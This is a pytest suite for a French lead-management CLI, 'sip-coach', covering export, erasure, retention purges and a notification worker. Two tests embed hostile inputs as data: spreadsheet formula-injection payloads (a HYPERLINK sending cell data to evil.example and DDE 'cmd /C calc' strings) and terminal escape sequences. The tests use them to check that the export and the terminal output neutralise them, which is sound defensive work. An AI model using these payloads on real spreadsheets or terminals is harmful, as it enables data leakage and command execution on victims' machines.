"""Every ``sip-coach`` command, called as ``bot.cli.main([...])``: output and exit codes."""
import csv
import datetime as dt
import io
import json
import os
import signal
import threading
import time

import pytest
import sqlalchemy as sa

from bot import cli
from bot.leads.db import head_revision, session_factory, session_scope
from bot.leads.models import Lead, OutboxMessage, utcnow

CONTRACT_FIELDS = {
    "id", "created_at", "sender_id", "name", "company", "email", "phone", "consent",
    "consent_at", "consent_version", "qualification", "score", "relationship", "verdict",
    "missing_criteria", "missing_pillars", "status",
}


@pytest.fixture
def env(monkeypatch, db_url, tracker, mail_dir, tmp_path):
    monkeypatch.setenv("LEADS_DB_URL", db_url)
    monkeypatch.setenv("LEADS_SPOOL_DIR", str(tmp_path / "spool"))  # never the project's var/spool
    monkeypatch.setenv("TRACKER_DB_URL", tracker.url)
    monkeypatch.setenv("LEADS_MAIL_DIR", str(mail_dir))
    monkeypatch.setenv("LEADS_DELIVER_ON_SUBMIT", "false")
    return db_url


@pytest.fixture
def run(capsys, env):
    def run(*args):
        code = cli.main(list(args))
        captured = capsys.readouterr()
        return code, captured.out, captured.err
    return run


@pytest.fixture
def two_leads(service, tracker, sub, diag):
    tracker.conversation("conv-1", [("Nous montons un partenariat avec un confrère", "Formidable !")])
    tracker.conversation("conv-9", [("Je reviens vous voir", "Ravi !")])
    tracker.conversation("someone-else", [("Autre visiteur", "Bonjour")])
    first = service.submit(sub())
    # The same visitor, back later in conv-9: a lead of its own (possible duplicate), that the
    # consultant merged by hand.
    returning = service.submit(sub(sender_id="conv-9", phone=None, diagnostic=None))
    service.merge(returning, first, "test")
    second = service.submit(sub(
        sender_id="conv-2", name="Paul Durand", company="Durand SARL", email=None,
        phone="+33 1 42 68 53 00", need=None, diagnostic=diag(relationship="client", missing_pillars=[]),
    ))
    return first, second


def set_last_contact(engine, lead_id, when):
    with session_scope(session_factory(engine)) as session:
        session.execute(sa.update(Lead).where(Lead.id == lead_id).values(last_contact_at=when))


# ------------------------------------------------------------------------- db
def test_db_upgrade_from_empty(capsys, monkeypatch, empty_db_url):
    monkeypatch.setenv("LEADS_DB_URL", empty_db_url)
    assert cli.main(["db", "upgrade"]) == 0
    out = capsys.readouterr().out
    assert f"Base des leads à jour (révision {head_revision()})" in out
    assert cli.main(["db", "upgrade"]) == 0


def test_default_database_is_var_leads_sqlite3(capsys, tmp_path):
    assert cli.main(["leads", "list"]) == 1
    assert "sip-coach db upgrade" in capsys.readouterr().err
    assert not (tmp_path / "var" / "leads.sqlite3").exists()  # reading never creates it
    assert cli.main(["db", "upgrade"]) == 0
    assert (tmp_path / "var" / "leads.sqlite3").is_file()
    assert cli.main(["leads", "list"]) == 0
    assert "Aucun lead." in capsys.readouterr().out


def test_not_migrated_database_is_a_clear_error(capsys, monkeypatch, empty_db_url):
    monkeypatch.setenv("LEADS_DB_URL", empty_db_url)
    assert cli.main(["leads", "export"]) == 1
    err = capsys.readouterr().err
    assert "n’existe pas encore" in err or "pas initialisée" in err
    assert "sip-coach db upgrade" in err


def test_unreachable_database_is_a_clear_error(capsys, monkeypatch):
    monkeypatch.setenv("LEADS_DB_URL", "postgresql+psycopg2://nobody:secret@127.0.0.1:1/none")
    assert cli.main(["leads", "list"]) == 1
    err = capsys.readouterr().err
    assert "base des leads inaccessible" in err and "secret" not in err


# ------------------------------------------------------------------------- usage
@pytest.mark.parametrize(
    "args, words",
    [
        ([], "arguments obligatoires manquants"),
        (["leads"], "arguments obligatoires manquants"),
        (["leads", "frobnicate"], "choix invalide"),
        (["leads", "show"], "arguments obligatoires manquants"),
        (["leads", "show", "abc"], "n’est pas un numéro de lead"),
        (["leads", "show", "0"], "n’est pas un numéro de lead"),
        (["leads", "mark", "1"], "arguments obligatoires manquants : --status"),
        (["leads", "mark", "1", "--status", "new"], "choix invalide"),
        (["leads", "export", "--format", "xml"], "choix invalide"),
        (["leads", "erase"], "il faut l’un des arguments"),
        (["leads", "erase", "--email", "a@b.fr", "--sender", "x"], "incompatible"),
        (["leads", "purge"], "arguments obligatoires manquants"),
        (["leads", "purge", "--older-than", "3 ans"], "durée invalide"),
        (["leads", "purge", "--older-than", "0y"], "positive"),
        (["outbox", "worker", "--interval", "-1"], "positif"),
        (["leads", "list", "--bogus"], "arguments non reconnus"),
    ],
)
def test_usage_errors_exit_2_in_french(capsys, args, words):
    code = cli.main(args)
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert err.startswith("sip-coach : erreur d’utilisation :")
    assert words in err
    assert "usage : sip-coach" in err


def test_help_exits_0(capsys):
    assert cli.main(["--help"]) == 0
    assert "Les leads de Coach Partenariat" in capsys.readouterr().out


# ------------------------------------------------------------------------- leads
def test_list(run, two_leads):
    first, second = two_leads
    code, out, err = run("leads", "list")
    assert code == 0 and err == ""
    lines = out.splitlines()
    assert lines[0].split()[:4] == ["ID", "Créé", "le", "Qualif."]
    assert "Paul Durand" in lines[2] and "Jeanne Martin" in lines[3]  # newest first
    assert "01 42 68 53 00" in out  # phone shown when there is no e-mail
    assert "chaud" in out and "2 lead(s)." in out
    code, out, _ = run("leads", "list", "--status", "won")
    assert code == 0 and "Aucun lead au statut « won »." in out


def test_show_has_lead_diagnostic_and_transcript(run, two_leads):
    first, _ = two_leads
    code, out, err = run("leads", "show", str(first))
    assert code == 0 and err == ""
    assert f"lead n°{first}" in out
    assert "Jeanne Martin" in out and "06 34 22 31 71" in out
    assert "Les quatre piliers (2/4)" in out and "║" in out
    assert "Les cinq points du partenariat" in out
    # the transcripts of both linked conversations, not the other visitor's
    assert "Nous montons un partenariat avec un confrère" in out and "Je reviens vous voir" in out
    assert "Autre visiteur" not in out
    assert "Conversations liées : conv-1, conv-9" in out


def test_show_unknown_lead_exits_1(run, two_leads):
    code, out, err = run("leads", "show", "999")
    assert code == 1 and out == ""
    assert err == "sip-coach : erreur : lead n°999 introuvable\n"


def test_export_json_has_the_contract_fields(run, two_leads):
    first, second = two_leads
    code, out, err = run("leads", "export", "--format", "json")
    assert code == 0
    data = json.loads(out)
    assert isinstance(data, list) and [d["id"] for d in data] == [first, second]
    for record in data:
        assert CONTRACT_FIELDS <= set(record)
        assert record["consent"] is True
        assert record["qualification"] in ("hot", "warm", "cold")
        assert 0 <= record["score"] <= 100 and isinstance(record["score"], int)
        assert isinstance(record["missing_criteria"], list)
        assert isinstance(record["missing_pillars"], list)
        dt.datetime.fromisoformat(record["created_at"])
        dt.datetime.fromisoformat(record["consent_at"])
    a, b = data
    assert a["sender_id"] == "conv-1" and a["sender_ids"] == ["conv-1", "conv-9"]
    assert a["relationship"] == "partnership" and a["missing_pillars"] == ["balance", "contract"]
    assert a["missing_criteria"] == ["shared_stakes"] and a["status"] == "new"
    assert a["verdict"] == "mandatory_points_missing"
    assert a["verdict_label"] == "Pas encore un partenariat"
    assert b["email"] is None and b["phone"] == "+33142685300" and b["relationship"] == "client"
    # default format is JSON too
    assert json.loads(run("leads", "export")[1]) == data


def test_export_csv_same_columns_lists_joined(run, two_leads):
    code, out, _ = run("leads", "export", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 2
    assert CONTRACT_FIELDS <= set(rows[0])
    assert rows[0]["missing_pillars"] == "balance;contract"
    assert rows[0]["sender_ids"] == "conv-1;conv-9"
    assert rows[0]["consent"] == "true"
    assert rows[1]["email"] == "" and rows[1]["missing_pillars"] == ""


def test_export_to_file(run, two_leads, tmp_path):
    target = tmp_path / "export.csv"
    code, out, err = run("leads", "export", "--format", "csv", "--output", str(target))
    assert code == 0 and out == "" and "2 lead(s) exporté(s)" in err
    assert target.read_text(encoding="utf-8").startswith("id,created_at,")
    code, _, err = run("leads", "export", "--output", str(tmp_path / "no" / "dir" / "x.json"))
    assert code == 1 and "impossible d’écrire" in err


def test_export_empty_is_an_empty_array(run):
    code, out, _ = run("leads", "export", "--format", "json")
    assert code == 0 and json.loads(out) == []


def test_mark(run, two_leads, engine):
    first, _ = two_leads
    set_last_contact(engine, first, utcnow() - dt.timedelta(days=400))
    code, out, err = run("leads", "mark", str(first), "--status", "contacted", "--note", "Rappel jeudi")
    assert code == 0 and err == ""
    assert out == f"Lead n°{first} : statut « contacté » (note enregistrée).\n"
    record = json.loads(run("leads", "export")[1])[0]
    assert record["status"] == "contacted"
    # a consultant's contact restarts the retention period
    assert dt.datetime.fromisoformat(record["last_contact_at"]) > utcnow() - dt.timedelta(minutes=5)
    code, out, _ = run("leads", "show", str(first))
    assert "SUIVI" in out and "contacté · Rappel jeudi" in out
    code, out, _ = run("leads", "mark", str(first), "--status", "won")
    assert code == 0 and "« gagné »." in out
    code, out, err = run("leads", "mark", "999", "--status", "lost")
    assert code == 1 and "lead n°999 introuvable" in err


def test_erase_by_email_removes_lead_conversations_and_mail(run, two_leads, tracker, service, mail_dir):
    first, second = two_leads
    service.deliver_pending()
    assert list(mail_dir.glob(f"lead-{first}-*.eml"))
    code, out, err = run("leads", "erase", "--email", "Jeanne.Martin@menuiserie-martin.fr")
    assert code == 0 and err == ""
    assert f"lead(s) n°{first}" in out and "2 conversation(s)" in out
    assert tracker.count("conv-1") == 0 and tracker.count("conv-9") == 0
    assert tracker.count("someone-else") > 0 and tracker.count("conv-2") == 0  # conv-2 had no events
    assert not list(mail_dir.glob(f"lead-{first}-*.eml"))
    assert [r["id"] for r in json.loads(run("leads", "export")[1])] == [second]
    code, out, err = run("leads", "show", str(first))
    assert code == 1
    # again: nothing left
    code, out, err = run("leads", "erase", "--email", "jeanne.martin@menuiserie-martin.fr")
    assert code == 1 and "aucun lead avec l’adresse jeanne.martin@menuiserie-martin.fr" in err


def test_erase_rejects_an_invalid_email(run, two_leads):
    code, out, err = run("leads", "erase", "--email", "pas-une-adresse")
    assert code == 2 and "adresse e-mail invalide" in err


def test_erase_by_sender(run, two_leads, tracker):
    _, second = two_leads
    tracker.conversation("conv-2", [("Bonjour", "Salut")])
    code, out, _ = run("leads", "erase", "--sender", "conv-2")
    assert code == 0 and f"n°{second}" in out and tracker.count("conv-2") == 0
    # a conversation without lead (consent refused): only its events
    code, out, _ = run("leads", "erase", "--sender", "someone-else")
    assert code == 0 and "Aucun lead pour cette conversation" in out
    assert tracker.count("someone-else") == 0
    code, out, err = run("leads", "erase", "--sender", "nobody")
    assert code == 1 and "rien à effacer" in err


def test_purge_three_years_after_last_contact(run, two_leads, engine, tracker):
    first, second = two_leads
    set_last_contact(engine, first, utcnow() - dt.timedelta(days=3 * 365 + 2))
    set_last_contact(engine, second, utcnow() - dt.timedelta(days=3 * 365 - 2))
    code, out, _ = run("leads", "purge", "--older-than", "3y", "--dry-run")
    assert code == 0 and "1 lead(s) seraient effacés" in out and f"n°{first}" in out
    assert len(json.loads(run("leads", "export")[1])) == 2
    code, out, _ = run("leads", "purge", "--older-than", "3y")
    assert code == 0 and "1 lead(s) effacé(s)" in out and f"n°{first} ;" in out
    assert [r["id"] for r in json.loads(run("leads", "export")[1])] == [second]
    assert tracker.count("conv-1") == 0
    code, out, _ = run("leads", "purge", "--older-than", "3y")
    assert code == 0 and "Aucun lead sans contact depuis le" in out
    code, out, _ = run("leads", "purge", "--older-than", "30d")
    assert code == 0 and f"n°{second}" in out


@pytest.mark.parametrize(
    "text, expected",
    [("3y", (3, "y")), ("36m", (36, "m")), ("1095d", (1095, "d")), ("2a", (2, "y")), ("10j", (10, "d"))],
)
def test_parse_duration(text, expected):
    assert cli.parse_duration(text) == expected


def test_subtract_duration_calendar():
    now = dt.datetime(2026, 3, 31, 12, 0, tzinfo=dt.timezone.utc)
    assert cli.subtract_duration(now, (1, "m")) == now.replace(month=2, day=28)
    assert cli.subtract_duration(now, (3, "y")) == now.replace(year=2023)
    assert cli.subtract_duration(now, (15, "m")) == now.replace(year=2024, month=12)
    assert cli.subtract_duration(now, (10, "d")) == now - dt.timedelta(days=10)
    leap = dt.datetime(2028, 2, 29, tzinfo=dt.timezone.utc)
    assert cli.subtract_duration(leap, (1, "y")) == dt.datetime(2027, 2, 28, tzinfo=dt.timezone.utc)


# ------------------------------------------------------------------------- outbox
def test_outbox_list_and_retry(run, monkeypatch, two_leads, http_receiver, engine):
    monkeypatch.setenv("LEADS_NOTIFY_EMAIL", "false")
    monkeypatch.setenv("LEADS_WEBHOOK_URL", http_receiver.url)
    monkeypatch.setenv("NOTIFY_TIMEOUT", "2")
    # the two leads were announced by e-mail (.eml): deliver those first
    code, out, _ = run("outbox")
    assert code == 0 and "2 notification(s) : 2 en attente." in out
    with session_scope(session_factory(engine)) as session:  # switch them to the webhook
        session.execute(sa.update(OutboxMessage).values(channel="webhook"))
    code, out, err = run("outbox", "retry")
    assert code == 1 and "2 à réessayer plus tard" in out
    assert "certaines notifications n’ont pas pu être envoyées" in err
    code, out, _ = run("outbox", "list")
    assert "en attente" in out and "webhook injoignable" in out
    http_receiver.start()
    code, out, _ = run("outbox", "retry")
    assert code == 0 and "Notifications : 2 envoyée(s)." in out
    assert len(http_receiver.requests) == 2
    code, out, _ = run("outbox")
    assert "Aucune notification en attente ni en échec." in out
    code, out, _ = run("outbox", "list", "--all")
    assert out.count("envoyée") >= 2
    code, out, _ = run("outbox", "retry")
    assert code == 0 and "Rien à renvoyer." in out
    code, out, err = run("outbox", "retry", "999")
    assert code == 1 and "aucune de ces notifications" in err


def run_worker_until(run, done_when, *options):
    """Run `sip-coach outbox worker` in this process and SIGTERM it once ``done_when()``."""
    before = signal.getsignal(signal.SIGTERM)
    finished = threading.Event()

    def stop_the_worker_when_done() -> None:
        # Sent only once the worker handles SIGTERM (else it would kill pytest) and has done
        # its work (or has had 60 s to): a fixed delay could be too short on a loaded machine.
        deadline = time.monotonic() + 60
        while not finished.is_set():
            handled = signal.getsignal(signal.SIGTERM) is not before
            if handled and (done_when() or time.monotonic() > deadline):
                os.kill(os.getpid(), signal.SIGTERM)
                return
            time.sleep(0.05)

    watcher = threading.Thread(target=stop_the_worker_when_done, daemon=True)
    watcher.start()
    try:
        return run("outbox", "worker", "--interval", "0.2", *options)
    finally:
        finished.set()
        watcher.join()


def test_outbox_worker_delivers_until_sigterm(run, two_leads, mail_dir, monkeypatch):
    code, out, err = run_worker_until(run, lambda: len(list(mail_dir.glob("*.eml"))) == 2)
    assert code == 0
    assert "Envoi des notifications toutes les 0.2 s" in out
    assert "Notifications : 2 envoyée(s)." in out
    assert "Arrêt du worker." in out
    assert len(list(mail_dir.glob("*.eml"))) == 2
    # the previous SIGTERM handler is restored
    assert signal.getsignal(signal.SIGTERM) in (signal.SIG_DFL, signal.default_int_handler) or callable(
        signal.getsignal(signal.SIGTERM))


def test_outbox_worker_applies_the_retention_once_a_day(run, two_leads, engine, tracker, monkeypatch):
    from bot.leads.service import LeadService

    first, second = two_leads
    set_last_contact(engine, first, utcnow() - dt.timedelta(days=3 * 365 + 2))
    set_last_contact(engine, second, utcnow() - dt.timedelta(days=3 * 365 - 2))
    monkeypatch.delenv("LEADS_RETENTION", raising=False)
    purges, passes = [], []
    real_purge, real_deliver = LeadService.purge, LeadService.deliver_pending
    monkeypatch.setattr(LeadService, "purge", lambda self, cutoff, **kw: purges.append(cutoff) or real_purge(self, cutoff, **kw))
    monkeypatch.setattr(LeadService, "deliver_pending", lambda self, **kw: passes.append(1) or real_deliver(self, **kw))

    code, out, _ = run_worker_until(run, lambda: len(passes) >= 4)
    assert code == 0
    assert "Conservation : une fois par jour, effacement des leads sans contact depuis 3 ans." in out
    assert "Conservation : 1 lead(s) sans contact depuis le" in out and f"n°{first} ;" in out
    assert len(passes) >= 4 and len(purges) == 1  # once a day, not on every pass
    assert utcnow() - purges[0] > dt.timedelta(days=3 * 365)
    assert [r["id"] for r in json.loads(run("leads", "export")[1])] == [second]
    assert tracker.count("conv-1") == 0
    assert "Paul Durand" not in out and "arnaud" not in out.lower()  # numbers only


def test_a_failing_retention_purge_does_not_stop_the_notices(run, two_leads, mail_dir, monkeypatch):
    from bot.leads.service import LeadService

    def broken(self, cutoff, **kw):
        raise sa.exc.OperationalError("DELETE", {}, Exception("database is locked"))

    monkeypatch.setattr(LeadService, "purge", broken)
    code, out, err = run_worker_until(run, lambda: len(list(mail_dir.glob("*.eml"))) == 2)
    assert code == 0 and "Notifications : 2 envoyée(s)." in out
    assert err.count("conservation (leads) : effacement en échec (OperationalError) ; nouvel essai dans 1 h") == 1


@pytest.mark.parametrize("how", ["option", "env"])
def test_outbox_worker_retention_can_be_turned_off(run, two_leads, engine, mail_dir, monkeypatch, how):
    first, second = two_leads
    set_last_contact(engine, first, utcnow() - dt.timedelta(days=4 * 365))
    options = ("--retention", "off") if how == "option" else ()
    monkeypatch.setenv("LEADS_RETENTION", "3y" if how == "option" else "off")
    code, out, _ = run_worker_until(run, lambda: len(list(mail_dir.glob("*.eml"))) == 2, *options)
    assert code == 0 and "pas d’effacement automatique" in out
    assert sorted(r["id"] for r in json.loads(run("leads", "export")[1])) == sorted([first, second])


@pytest.mark.parametrize("options, env, message", [
    (("--retention", "trois ans"), "3y", "--retention : durée invalide « trois ans »"),
    ((), "0y", "LEADS_RETENTION : la durée doit être positive"),
    ((), "3000y", "LEADS_RETENTION : durée trop longue « 3000y » : au plus 100 ans"),
])
def test_outbox_worker_refuses_a_bad_retention(run, monkeypatch, options, env, message):
    monkeypatch.setenv("LEADS_RETENTION", env)
    # Stopped at once if it started anyway (it must not: the value is checked first).
    code, out, err = run_worker_until(run, lambda: True, *options)
    assert code == 2 and message in err and "(ou off)" in err


def test_a_lead_that_comes_back_during_the_purge_is_kept(service, two_leads, engine, monkeypatch):
    from bot.leads import service as service_module

    first, second = two_leads
    set_last_contact(engine, first, utcnow() - dt.timedelta(days=4 * 365))
    real = service_module.delete_conversations

    def the_visitor_returns_meanwhile(sender_ids, url):
        deleted = real(sender_ids, url)
        set_last_contact(engine, first, utcnow())
        return deleted

    monkeypatch.setattr(service_module, "delete_conversations", the_visitor_returns_meanwhile)
    report = service.purge(utcnow() - dt.timedelta(days=3 * 365))
    assert report.lead_ids == []
    assert sorted(r["id"] for r in service.export()) == sorted([first, second])


def test_worker_survives_a_failing_pass(capsys):
    stop = threading.Event()
    calls = []

    def deliver():
        calls.append(1)
        if len(calls) == 1:
            raise RuntimeError("base indisponible")
        stop.set()
        from bot.leads.outbox import DeliveryReport
        return DeliveryReport(sent=[1])

    assert cli.run_worker(deliver, 0.01, stop, io.StringIO()) == 0
    assert len(calls) == 2
    assert "passage en échec" in capsys.readouterr().err


def test_edit_rectifies_a_lead(run, two_leads):
    first, second = two_leads
    code, out, err = run("leads", "edit", str(first), "--phone", "07 81 22 33 44", "--company", "Martin & Fils")
    assert code == 0 and out == f"Lead n°{first} corrigé (company, phone).\n"
    record = json.loads(run("leads", "export", "--email", "jeanne.martin@menuiserie-martin.fr")[1])
    assert len(record) == 1 and record[0]["phone"] == "+33781223344" and record[0]["company"] == "Martin & Fils"
    code, _, err = run("leads", "edit", str(first), "--phone", "12")
    assert code == 1 and "phone : Ce numéro est trop court" in err
    code, _, err = run("leads", "edit", str(second), "--phone", "")
    assert code == 1 and "au moins un moyen de contact" in err
    # An address already given in another lead is allowed (unverified, never unique).
    code, _, err = run("leads", "edit", str(second), "--email", "jeanne.martin@menuiserie-martin.fr")
    assert code == 0, err
    code, _, err = run("leads", "edit", str(first))
    assert code == 2 and "rien à corriger" in err
    code, _, err = run("leads", "edit", "999", "--name", "X")
    assert code == 1 and "introuvable" in err


def test_export_of_one_visitor(run, two_leads):
    code, out, err = run("leads", "export", "--email", "nobody@entreprise.fr")
    assert code == 1 and "aucun lead avec l’adresse" in err
    code, out, err = run("leads", "export", "--email", "pas une adresse")
    assert code == 2


def test_erase_also_clears_a_request_waiting_in_the_spool(run, monkeypatch, tmp_path, sub):
    from bot.leads.spool import LeadSpool

    spool = LeadSpool.from_env()
    spool.put(sub(email="en.attente@exemple.fr", sender_id="conv-spooled"))
    assert spool.count() == 1
    code, out, err = run("leads", "erase", "--email", "en.attente@exemple.fr")
    assert code == 0 and "1 demande(s) en attente effacée(s)" in out
    assert spool.count() == 0


def test_merge_by_hand_from_the_cli_is_recorded_in_the_lead(run, service, sub):
    first = service.submit(sub())
    copy = service.submit(sub(sender_id="conv-copy", phone=None, diagnostic=None))
    code, out, _ = run("leads", "list")
    assert code == 0 and f"#{first}" in out and "06 34 22 31 71" in out  # duplicate flag, phone shown
    code, out, err = run("leads", "merge", str(copy), str(first))
    assert code == 0, err
    assert out == f"Lead n°{copy} fusionné dans le lead n°{first} (noté dans son historique).\n"
    code, out, _ = run("leads", "show", str(first))
    assert "HISTORIQUE" in out and f"lead n°{copy} fusionné dans ce lead" in out and "cli:" in out
    assert run("leads", "merge", str(first), str(first))[0] == 2
    code, _, err = run("leads", "merge", "999", str(first))
    assert code == 1 and "lead n°999 introuvable" in err


HOSTILE_CELLS = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
    "company": "+cmd|' /C calc'!A0",
    "need": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_csv_neutralises_formulas_for_a_spreadsheet(run, service, sub):
    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with a quote."""
    service.submit(sub(**HOSTILE_CELLS))
    service.submit(sub(sender_id="conv-tab", name="\tTabulé", company="-2+3", email=None))
    code, out, _ = run("leads", "export", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))  # a real CSV reader, quoting and all
    hostile = next(r for r in rows if r["sender_id"] == "conv-1")
    for key, value in HOSTILE_CELLS.items():
        assert hostile[key] == "'" + value
    assert hostile["phone"] == "'+33634223171"  # a phone number is text in a spreadsheet too
    assert hostile["email"] == "jeanne.martin@menuiserie-martin.fr"  # ordinary cells untouched
    other = next(r for r in rows if r["sender_id"] == "conv-tab")
    assert other["company"] == "'-2+3"
    assert not other["name"].startswith(("\t", "=")) and "Tabulé" in other["name"]
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r"
    # The JSON export (the contract) keeps the values as stored.
    data = json.loads(run("leads", "export", "--format", "json")[1])
    assert next(d for d in data if d["sender_id"] == "conv-1")["name"] == HOSTILE_CELLS["name"]


def test_terminal_escapes_never_reach_the_cli(run, service, tracker, sub):
    """ANSI/OSC escapes typed in chat are stripped when stored and when printed."""
    tracker.conversation("conv-1", [("\x1b]8;;http://evil.example\x07lien\x1b]8;;\x07 \x1b[2J", "Bien reçu")])
    lead = service.submit(sub(
        name="Jeanne \x1b[31mMartin\x1b[0m", company="Acme\x9b2J", need="Ligne 1\r\nLigne\x07 2\x00",
    ))
    code, out, _ = run("leads", "list")
    assert code == 0 and "\x1b" not in out and "\x9b" not in out and "Jeanne [31mMartin[0m" in out
    code, out, _ = run("leads", "show", str(lead))
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x9b\x07\x00\r")
    assert "Ligne 1\nLigne 2" in out  # the need keeps its lines
    record = json.loads(run("leads", "export", "--format", "json")[1])[0]
    assert record["name"] == "Jeanne [31mMartin[0m" and record["company"] == "Acme2J"


# ---------------------------------------------------------------------- what the consultant reads (issue 15)
def test_list_shows_the_phone_next_to_a_long_email(run, service, sub):
    service.submit(sub(email="jean-baptiste.delacroix-martin@menuiserie-delacroix-martin.fr"))
    service.submit(sub(sender_id="conv-2", email="paul@durand.fr", phone="+33 1 42 68 53 00"))
    code, out, _ = run("leads", "list")
    assert code == 0
    rows = out.splitlines()[2:4]
    assert "01 42 68 53 00" in rows[0] and "paul@durand.fr" in rows[0]
    assert "06 34 22 31 71" in rows[1] and "jean-baptiste.delacroix" in rows[1]  # cut, but the number shows


def test_list_and_outbox_times_are_paris_time(run, service, engine, sub):
    lead = service.submit(sub())
    with session_scope(session_factory(engine)) as session:
        session.execute(sa.update(Lead).where(Lead.id == lead).values(
            created_at=dt.datetime(2026, 12, 4, 9, 15, tzinfo=dt.timezone.utc)))
        session.execute(sa.update(OutboxMessage).values(
            next_attempt_at=dt.datetime(2026, 7, 4, 8, 15, tzinfo=dt.timezone.utc)))
    code, out, _ = run("leads", "list")
    assert code == 0 and "04/12/2026 10:15" in out and "09:15" not in out
    assert "1 lead(s). Heures de Paris." in out
    code, out, _ = run("outbox")
    assert code == 0 and "04/07/2026 10:15" in out and "Heures de Paris." in out
    record = json.loads(run("leads", "export")[1])[0]
    assert record["created_at"] == "2026-12-04T09:15:00+00:00"  # the export stays ISO 8601 UTC


def test_show_counts_three_missing_legs(run, service, tracker, sub, diag):
    answers = {**diag()["answers"], "shared_desire": "yes", "common_project": "no", "balance": "no",
               "contract": "unknown"}
    lead = service.submit(sub(diagnostic=diag(answers=answers,
                                              missing_pillars=["common_project", "balance", "contract"])))
    code, out, _ = run("leads", "show", str(lead))
    assert code == 0
    assert "Les quatre piliers (1/4)" in out
    assert "Il manque trois pieds (Projet, Équilibre, Contrat)\u00a0: la table ne tient pas debout." in out
    assert "Il manque un pied" not in out and "UTC" not in out and "(heure de Paris)" in out


# ---------------------------------------------------------------------- conversations' retention
def test_conversations_without_a_lead_are_erased_after_their_retention(run, two_leads, tracker):
    tracker.clock = time.time()  # a conversation of today, without a lead: kept
    tracker.conversation("fresh", [("Je découvre le site", "Bienvenue !")])
    code, out, _ = run("conversations", "purge", "--older-than", "30d", "--dry-run")
    assert code == 0 and "1 conversation(s) sans lead seraient effacées" in out
    assert tracker.count("someone-else") > 0
    code, out, _ = run("conversations", "purge", "--older-than", "30d")
    assert code == 0 and "1 conversation(s) sans lead effacée(s)" in out
    assert tracker.count("someone-else") == 0
    assert tracker.count("fresh") > 0 and tracker.count("conv-1") > 0 and tracker.count("conv-9") > 0
    code, out, _ = run("conversations", "purge", "--older-than", "30d")
    assert code == 0 and "Aucune conversation sans lead inactive depuis le" in out


def abandoned_form(tracker, sender_id: str, email: str) -> None:
    tracker.conversation(sender_id, [("Bonjour", "Bonjour !")])
    tracker.add(sender_id, "active_loop", name="contact_form")
    tracker.add(sender_id, "user", f"mon mail c'est {email}", intent_name="inform")
    tracker.add(sender_id, "slot", name="contact_email", value=email)
    tracker.add(sender_id, "slot", name="coaching_step", value=3)


def test_an_abandoned_contact_form_is_redacted_once_expired(service, tracker, sub):
    from bot.leads.transcript import read_transcript

    abandoned_form(tracker, "abandon", "karim@example.org")
    abandoned_form(tracker, "conv-1", "jeanne.martin@menuiserie-martin.fr")  # consented: a lead
    service.submit(sub())
    tracker.clock = time.time()
    abandoned_form(tracker, "en-cours", "lea@example.org")  # still within its 30 minutes
    cutoff = utcnow() - dt.timedelta(minutes=30)
    assert service.forget_abandoned_forms(cutoff) == 1
    with tracker.engine.connect() as connection:
        rows = connection.execute(sa.text("SELECT sender_id, data FROM events")).all()
    dump = {s: " ".join(d for sid, d in rows if sid == s) for s in ("abandon", "conv-1", "en-cours")}
    assert "karim" not in dump["abandon"] and "Bonjour" in dump["abandon"]
    assert '"coaching_step", "value": 3' in dump["abandon"]  # only the form's personal data
    assert "jeanne.martin" in dump["conv-1"] and "lea@example.org" in dump["en-cours"]
    assert service.forget_abandoned_forms(cutoff) == 0  # done once


def test_outbox_worker_purges_conversations_and_abandoned_forms(run, two_leads, tracker, monkeypatch):
    abandoned_form(tracker, "abandon", "karim@example.org")
    monkeypatch.delenv("CONVERSATIONS_RETENTION", raising=False)
    code, out, _ = run_worker_until(run, lambda: tracker.count("abandon") == 0)
    assert code == 0
    assert "Conversations sans lead : effacées après 30 jours d’inactivité." in out
    assert "2 conversation(s) sans lead" in out  # someone-else and abandon
    assert tracker.count("someone-else") == 0 and tracker.count("conv-1") > 0
    monkeypatch.setenv("CONVERSATIONS_RETENTION", "douze")
    code, _, err = run("outbox", "worker", "--interval", "1")
    assert code == 2 and "CONVERSATIONS_RETENTION" in err


# ---------------------------------------------------------------------- paths and stores
def test_relative_paths_are_taken_from_the_project_root(monkeypatch, tmp_path):
    from bot.leads.db import leads_db_url
    from bot.leads.notifier import NotifierConfig
    from bot.leads.spool import spool_dir
    from bot.leads.transcript import tracker_db_url
    from bot.paths import PROJECT_ROOT

    monkeypatch.chdir(tmp_path)
    for name in ("LEADS_DB_URL", "TRACKER_DB_URL", "LEADS_MAIL_DIR", "LEADS_SPOOL_DIR", "COACH_HOME"):
        monkeypatch.delenv(name, raising=False)
    assert leads_db_url() == f"sqlite:///{PROJECT_ROOT}/var/leads.sqlite3"
    assert tracker_db_url() == f"sqlite:///{PROJECT_ROOT}/var/tracker.sqlite3"
    assert NotifierConfig.from_env().mail_dir == PROJECT_ROOT / "var" / "mail"
    assert spool_dir() == PROJECT_ROOT / "var" / "spool"
    monkeypatch.setenv("COACH_HOME", str(tmp_path / "site"))
    monkeypatch.setenv("LEADS_DB_URL", "sqlite:///data/leads.db")
    assert leads_db_url() == f"sqlite:///{tmp_path}/site/data/leads.db"
    monkeypatch.setenv("LEADS_DB_URL", "postgresql+psycopg2://coach@db/leads")
    assert leads_db_url() == "postgresql+psycopg2://coach@db/leads"


def test_erase_from_another_directory_clears_the_project_stores(monkeypatch, tmp_path, capsys, sub):
    """`cd /tmp && sip-coach leads erase --email …` finds the same files as `make run`."""
    from bot.leads.service import LeadService
    from tests.leads.conftest import Tracker

    home = tmp_path / "projet"
    for name in ("LEADS_DB_URL", "TRACKER_DB_URL", "LEADS_MAIL_DIR", "LEADS_SPOOL_DIR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("COACH_HOME", str(home))
    monkeypatch.setenv("LEADS_DELIVER_ON_SUBMIT", "true")
    monkeypatch.chdir(home.parent)
    assert cli.main(["db", "upgrade"]) == 0
    tracker = Tracker(f"sqlite:///{home}/var/tracker.sqlite3")
    tracker.conversation("conv-1", [("Je suis Jeanne", "Enchanté !")])
    svc = LeadService.from_env()
    svc.submit(sub())
    svc.close()
    assert list((home / "var" / "mail").glob("*.eml"))
